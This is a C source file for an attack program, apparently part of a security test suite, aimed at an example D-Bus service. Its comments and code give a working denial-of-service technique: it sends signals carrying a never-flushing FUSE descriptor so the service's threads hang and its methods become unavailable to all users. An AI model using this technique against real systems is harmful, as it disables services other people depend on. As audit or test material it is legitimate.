/* SPDX-License-Identifier: LGPL-2.1-or-later */
/* attack-newborn MODE SECONDS (run by fuse-exec, FUSE_FILES set; as nobody):
 * the seventh attack's first finding, a descriptor in a SIGNAL to a gate.
 * The gate's filter passes every message that is no method call on
 * (returns 0); sd-bus finds no match for a signal and frees it on the
 * gate's loop, closing what it carries there. A file of the caller's own
 * FUSE file system whose FLUSH its server never answers (fuse-exec's) then
 * leaves the gate's main thread in D state for good: the daemon's heartbeat
 * replaces it, charged to no account, and 32 such gates take the *Pidfd
 * methods away from everyone.
 *
 * Two ways a signal with a descriptor reaches a gate:
 *   serving  a signal org.example.Resource1.PrlimitPidfd (interface and
 *            member the bus policy lets carry one descriptor to
 *            org.example.Resource1.Pidfd: its rules name no message type)
 *            to the gate serving the name, once: deterministic.
 *   nameless the bus policy's mandatory deny applies to the name, so only
 *            to a connection that owns (or queues for) it; a gate that owns
 *            none (a new one between its Hello and its RequestName, the
 *            seventh attack's "newborn", or an old one that left the
 *            name's queue) gets any signal with any descriptor. This mode
 *            watches NameOwnerChanged and sends a signal of an interface of
 *            its own, carrying the file, at once to every new unique name
 *            and to every connection that just lost
 *            org.example.Resource1.Pidfd, for SECONDS.
 * Prints "READY <own name>", then "SENT <mode> <destination> <t>" per signal
 * sent (sent, not delivered: the bus drops what its policy denies, without
 * a word for a signal), "DONE" at the end; then holds on until killed, its
 * FUSE file open (fuse-exec's server ends with its last copy). */
#include <errno.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <unistd.h>
#include <systemd/sd-bus.h>

#define GATE "org.example.Resource1.Pidfd"

static int fuse_fd = -1;
static const char *self;
static double t0;

static double now(void) {
        struct timespec t;
        clock_gettime(CLOCK_MONOTONIC, &t);
        return t.tv_sec + t.tv_nsec / 1e9;
}

static int send_signal(sd_bus *bus, const char *destination, const char *interface, const char *member) {
        sd_bus_message *s = NULL;
        int r = sd_bus_message_new_signal(bus, &s, "/org/example/Resource1", interface, member);
        if (r >= 0)
                r = sd_bus_message_set_destination(s, destination);
        if (r >= 0)
                r = sd_bus_message_append(s, "h", fuse_fd);
        if (r >= 0)
                r = sd_bus_send(bus, s, NULL);
        sd_bus_message_unref(s);
        if (r >= 0)
                r = sd_bus_flush(bus);
        printf("SENT %s %.3f %s\n", destination, now() - t0, r < 0 ? strerror(-r) : "ok");
        return r;
}

static bool newborn;

static int on_owner(sd_bus_message *m, void *userdata, sd_bus_error *error) {
        sd_bus *bus = userdata;
        const char *name, *old, *new;
        (void) error;

        if (sd_bus_message_read(m, "sss", &name, &old, &new) < 0)
                return 0;
        /* A new connection: its unique name appears before it asks for any
         * other. */
        if (newborn && name[0] == ':' && old[0] == '\0' && strcmp(name, new) == 0 && strcmp(name, self) != 0)
                (void) send_signal(bus, name, "org.example.Attack", "Newborn");
        /* The gate that owned the name until now, if it still is connected. */
        else if (!newborn && strcmp(name, GATE) == 0 && old[0] != '\0')
                (void) send_signal(bus, old, "org.example.Attack", "Nameless");
        return 0;
}

int main(int argc, char **argv) {
        sd_bus *bus = NULL;
        const char *files = getenv("FUSE_FILES");
        int r;

        setvbuf(stdout, NULL, _IOLBF, 0);
        if (argc != 3 || (strcmp(argv[1], "serving") != 0 && strcmp(argv[1], "nameless") != 0 &&
                          strcmp(argv[1], "newborn") != 0)) {
                fprintf(stderr, "usage: attack-newborn serving|nameless|newborn SECONDS\n");
                return 2;
        }
        if (!files) {
                printf("FAIL no FUSE_FILES (run by fuse-exec)\n");
                return 1;
        }
        fuse_fd = atoi(files);
        double secs = atof(argv[2]);
        t0 = now();
        r = sd_bus_open_system(&bus);
        if (r >= 0)
                r = sd_bus_get_unique_name(bus, &self);
        newborn = strcmp(argv[1], "newborn") == 0;
        if (r >= 0 && strcmp(argv[1], "serving") != 0)
                r = sd_bus_match_signal(bus, NULL, "org.freedesktop.DBus", "/org/freedesktop/DBus",
                                        "org.freedesktop.DBus", "NameOwnerChanged", on_owner, bus);
        if (r < 0) {
                printf("FAIL bus: %s\n", strerror(-r));
                return 1;
        }
        printf("READY %s\n", self);
        if (strcmp(argv[1], "serving") == 0)
                (void) send_signal(bus, GATE, "org.example.Resource1", "PrlimitPidfd");
        else
                while (now() - t0 < secs) {
                        r = sd_bus_process(bus, NULL);
                        if (r < 0)
                                break;
                        if (r == 0)
                                (void) sd_bus_wait(bus, 100000);
                }
        printf("DONE\n");
        (void) sd_bus_flush(bus);
        pause();
        return 0;
}
